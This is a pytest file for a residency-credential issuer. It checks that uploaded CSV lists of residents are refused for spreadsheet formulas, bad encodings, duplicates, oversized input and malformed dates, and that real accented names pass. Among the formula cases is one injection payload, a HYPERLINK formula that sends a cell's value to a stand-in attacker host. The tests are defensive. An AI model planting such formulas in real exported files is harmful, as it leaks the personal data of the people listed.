"""Attack 28: a list of people that does something when it is read, or when it is opened.

A cell that a spreadsheet runs as a formula, a file in the wrong encoding whose names
come out wrong on signed proofs, the same person twice, ten million lines, dates in the
local order. Every one is refused with its line, before anything is signed.
"""

import tracemalloc
from collections.abc import Iterable, Iterator
from datetime import date

import pytest

from livret_core import limits
from livret_core.credential import catalogue
from livret_core.errors import MalformedInput
from livret_core.territory import Territory
from livret_issuer.intake import Outcome, Row, RowRefused, read_rows

NOW_S = 1_795_300_000  # 21 November 2026
HEADER = "family_name,given_name,birthdate,commune,address.locality,address.country,resident_since"
CAMILLE = "Arnould,Camille,1988-03-14,Verneuil,Verneuil,FR,2019-09-01"
ZOE = "Arnould,Zoé,2016-05-03,Verneuil,Verneuil,FR,2019-09-01"


def read(chunks: Iterable[bytes]) -> Iterator[Outcome]:
    kind = catalogue.find("residency")
    standing = kind.standing_claims(
        Territory.parse("fr-insee:80999"), authority="Mairie", issued_on=date(2026, 11, 21)
    )
    return read_rows(chunks, kind, standing=standing, now_s=NOW_S)


def read_text(*lines: str, encoding: str = "utf-8") -> list[Outcome]:
    return list(read(["\n".join((HEADER, *lines)).encode(encoding)]))


def code_of(outcome: Outcome) -> str:
    assert isinstance(outcome, RowRefused)
    return outcome.code


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("https://evil.example/?"&A1)',
        "=1+1",
        "+33123456789",
        "-2+3",
        "@SUM(A1:A9)",
        "  =1+1",
        "\uff1d1+1",
        "\uff20SUM(A1)",
    ],
)
def test_attack_28_a_cell_that_a_spreadsheet_runs(cell: str) -> None:
    quoted = '"' + cell.replace('"', '""') + '"'
    (outcome,) = read_text(CAMILLE.replace("Camille", quoted))
    assert code_of(outcome) == "intake.formula"


def test_attack_28_twin_signs_inside_a_cell_are_part_of_the_name() -> None:
    (outcome,) = read_text(CAMILLE.replace("Camille", "Jean-Marie + Camille @ home"))
    assert isinstance(outcome, Row)


@pytest.mark.parametrize("encoding", ["cp1252", "latin-1", "utf-16", "mac-roman"])
def test_attack_28_a_list_in_another_encoding(encoding: str) -> None:
    with pytest.raises(MalformedInput) as caught:
        read_text(CAMILLE, ZOE, encoding=encoding)
    assert caught.value.code == "intake.encoding"


def test_attack_28_another_encoding_is_told_by_its_line() -> None:
    with pytest.raises(MalformedInput) as caught:
        read_text(CAMILLE, ZOE, encoding="cp1252")
    assert caught.value.facts == {"line": 3}


def test_attack_28_a_list_that_was_encoded_twice() -> None:
    for row in (ZOE, CAMILLE.replace("Camille", "L’Hay")):
        (outcome,) = read_text(row.encode("utf-8").decode("cp1252"))
        assert code_of(outcome) == "intake.garbled"


@pytest.mark.parametrize("misread", ["cp1252", "mac-roman", "cp850", "cp437"])
@pytest.mark.parametrize("name", ["Zoé", "Łukasz", "Čeněk", "Zoé et Łukasz"])
def test_attack_28_a_name_that_was_misread_somewhere_before(name: str, misread: str) -> None:
    broken = name.encode("utf-8").decode(misread, "replace")
    for text in (broken, f"{broken} Łucja"):  # letters that the other encoding does not have
        (outcome,) = read_text(CAMILLE.replace("Camille", text))
        assert code_of(outcome) == "intake.garbled", text


def test_attack_28_a_letter_that_was_lost() -> None:
    (outcome,) = read_text(CAMILLE.replace("Camille", "Zo\ufffd"))
    assert isinstance(outcome, RowRefused)
    assert (outcome.code, outcome.column) == ("intake.garbled", "given_name")


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
def test_attack_28_another_encoding_without_a_mark(encoding: str) -> None:
    with pytest.raises(MalformedInput) as caught:
        read_text(CAMILLE, encoding=encoding)
    assert (caught.value.code, caught.value.facts) == ("intake.encoding", {"line": 1})


@pytest.mark.parametrize("begin", [b"PK\x03\x04\x14\0", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"])
def test_attack_28_a_spreadsheets_own_file(begin: bytes) -> None:
    with pytest.raises(MalformedInput) as caught:
        list(read([begin + b"xl/workbook.xml"]))
    assert caught.value.code == "intake.spreadsheet"


HONEST = [
    "Zoé",
    "Ângela",
    "João-Ângelo",
    "Ãcaro",
    "Bâtisseur",
    "Łucja",
    "Żółw",
    "Świętosława",
    "Křížová",
    "KŘÍŽ",
    "ĎÁBEL",
    "Čeněk",
    "Lukáš",
    "TOMÁŠ",
    "Škoda",
    "Žaneta",
    "Őrség",
    "Árvíztűrő",
    "ÜRÖM",
    "Åse",
    "ÅSA",
    "Öğretmen",
    "İpek",
    "Iğdır",
    "ŞAHİN",
    "ÇÖŞ",
    "Ñuñez",
    "GARÇÃO",
    "Ægir",
    "Þórður",
    "Ðuro",
    "Đặng",
    "Nguyễn",
    "Ệ",
    "Ștefan",
    "ȚEPEȘ",
    "Māris",
    "ŪDRIS",
    "Šķūtāns",
    "Ėglė",
    "Œdipe",
    "L’Œuvre",
    "D’Àgata",
    "Straße",
    "ẞ",
    "Ärzte",
    "ÄÖÜ",
    "Ωμέγα",
    "Παπαδόπουλος",
    "Иванова",
    "Ґалаґан",
    "ŒŽŠ",
    "ÉŠ",
    "ÍŽ",
    "Ásgeir’s",
]


@pytest.mark.parametrize("name", HONEST)
def test_attack_28_twin_letters_that_also_stand_in_broken_text_are_letters(name: str) -> None:
    (outcome,) = read_text(CAMILLE.replace("Camille", name))
    assert isinstance(outcome, Row), name
    assert outcome.claims["given_name"] == name


def test_attack_28_twin_a_list_divided_by_tabs_is_a_list() -> None:
    lines = [line.replace(",", "\t") for line in (HEADER, CAMILLE, "\t\t", ZOE)]
    found = list(read(["\n".join(lines).encode()]))
    assert [each.line for each in found if isinstance(each, Row)] == [2, 4]


@pytest.mark.parametrize(
    "again",
    [
        CAMILLE,
        CAMILLE.replace("2019-09-01", "2020"),
        CAMILLE.replace("Arnould", "ARNOULD"),
        CAMILLE.replace(",", " , "),
    ],
)
def test_attack_28_the_same_person_twice(again: str) -> None:
    first, middle, second = read_text(CAMILLE, ZOE, again)
    assert isinstance(first, Row)
    assert isinstance(middle, Row)
    assert isinstance(second, RowRefused)
    assert (second.code, second.line) == ("intake.duplicate", 4)
    assert second.reason.facts["first_line"] == 2


def test_attack_28_twin_people_who_share_a_name_are_two_people() -> None:
    outcomes = read_text(
        CAMILLE,
        CAMILLE.replace("1988-03-14", "1988-03"),
        CAMILLE.replace("1988-03-14", ""),
        CAMILLE.replace("1988-03-14", "").replace("2019-09-01", "2020"),
    )
    assert [type(outcome) for outcome in outcomes] == [Row] * 4


@pytest.mark.parametrize(
    "written", ["14/03/1988", "14.03.1988", "1988/03/14", "03-14-1988", "32216"]
)
def test_attack_28_a_date_in_the_local_order(written: str) -> None:
    (outcome,) = read_text(CAMILLE.replace("1988-03-14", written))
    assert isinstance(outcome, RowRefused)
    assert (outcome.code, outcome.column) == ("date.malformed", "birthdate")


def test_attack_28_a_date_that_is_still_to_come() -> None:
    (outcome,) = read_text(CAMILLE.replace("1988-03-14", "2088-03-14"))
    assert code_of(outcome) == "claims.future"


def test_attack_28_twin_a_year_alone_is_a_date() -> None:
    (outcome,) = read_text(CAMILLE.replace("1988-03-14", "1951"))
    assert isinstance(outcome, Row)


def people(count: int) -> Iterator[bytes]:
    yield HEADER.encode() + b"\n"
    for number in range(count):
        yield CAMILLE.replace("Arnould", f"Arnould {number}").encode() + b"\n"


def test_attack_28_more_lines_than_a_capital_has_people(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "INTAKE_ROWS", 50)
    outcomes = read(people(51))
    assert all(isinstance(next(outcomes), Row) for _ in range(50))
    with pytest.raises(MalformedInput) as caught:
        next(outcomes)
    assert caught.value.code == "input.too_large"


def test_attack_28_twin_a_list_of_just_that_many_is_read(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "INTAKE_ROWS", 50)
    assert sum(isinstance(outcome, Row) for outcome in read(people(50))) == 50


def test_attack_28_a_line_without_end_is_not_held_in_memory() -> None:
    def endless() -> Iterator[bytes]:
        yield HEADER.encode() + b"\n"
        while True:
            yield b"a" * 4_096

    tracemalloc.start()
    try:
        with pytest.raises(MalformedInput) as caught:
            list(read(endless()))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert caught.value.code == "input.too_large"
    assert peak < 16 * limits.INTAKE_LINE_BYTES


def test_attack_28_an_open_quote_does_not_swallow_the_rows_below() -> None:
    first, second = read_text(CAMILLE.replace("Camille", '"Camille'), ZOE)
    assert (code_of(first), type(second)) == ("intake.row", Row)
